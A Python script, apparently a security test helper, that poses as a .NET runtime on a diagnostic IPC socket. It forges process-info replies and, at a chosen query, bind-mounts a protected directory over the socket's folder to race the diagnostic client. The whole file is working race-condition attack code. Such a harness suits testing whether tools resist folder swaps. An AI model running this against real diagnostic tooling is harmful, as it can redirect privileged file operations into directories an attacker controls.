#!/usr/bin/env python3
"""A process that answers like a .NET runtime, and exchanges the folder of its socket for another while it is asked.

    hostile_runtime.py VICTIM N

Needs a mount namespace of its own in which it is root. Its socket lies in $TMPDIR, a file system of its own. At the Nth
question about who it is, VICTIM, a folder in which it may not write, is mounted there, and only then the answer is given.
Prints READY, and SWAPPED when it has done so; ends with its standard input.
"""

import ctypes
import os
import socket
import struct
import sys
import threading
from pathlib import Path

MS_BIND, MS_REC = 4096, 16384
SET_PROCESS, PROCESS_INFO3 = 4, 8
UNKNOWN_COMMAND = 0x80131385
COOKIE = os.urandom(16)
libc = ctypes.CDLL(None, use_errno=True)


def mount(source, folder, kind, flags):
    if libc.mount(source.encode(), folder.encode(), kind.encode() if kind else None, flags, None):
        raise OSError(ctypes.get_errno(), f"mount {source}")


def text(value):
    return struct.pack("<I", len(value) + 1) + (value + "\0").encode("utf-16-le")


def info():
    words = [text(w) for w in ("/app/shop", "Linux", "x64", "Shop", "10.0.0", "linux-x64")]
    return struct.pack("<IQ", 1, os.getpid()) + COOKIE + b"".join(words)


def reply(good, payload):
    return b"DOTNET_IPC_V1\0" + struct.pack("<HBBH", 20 + len(payload), 0xFF, 0 if good else 0xFF, 0) + payload


def serve(listener, victim, folder, when):
    asked = 0
    while True:
        line, _ = listener.accept()
        with line:
            request = line.recv(65536)
            about_it = request[16:18] == bytes([SET_PROCESS, PROCESS_INFO3])
            asked += about_it
            if about_it and asked == when:
                mount(victim, folder, None, MS_BIND | MS_REC)
                print("SWAPPED", flush=True)
            try:
                line.sendall(reply(True, info()) if about_it else reply(False, struct.pack("<I", UNKNOWN_COMMAND)))
            except BrokenPipeError:
                pass  # it was only a question whether somebody listens


def main():
    victim, when = sys.argv[1], int(sys.argv[2])
    folder = os.environ["TMPDIR"]
    mount("none", folder, "tmpfs", 0)
    started = Path("/proc/self/stat").read_text().rpartition(")")[2].split()[19]
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(f"{folder}/dotnet-diagnostic-{os.getpid()}-{started}-socket")
    listener.listen(16)
    threading.Thread(target=serve, args=(listener, victim, folder, when), daemon=True).start()
    print("READY", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
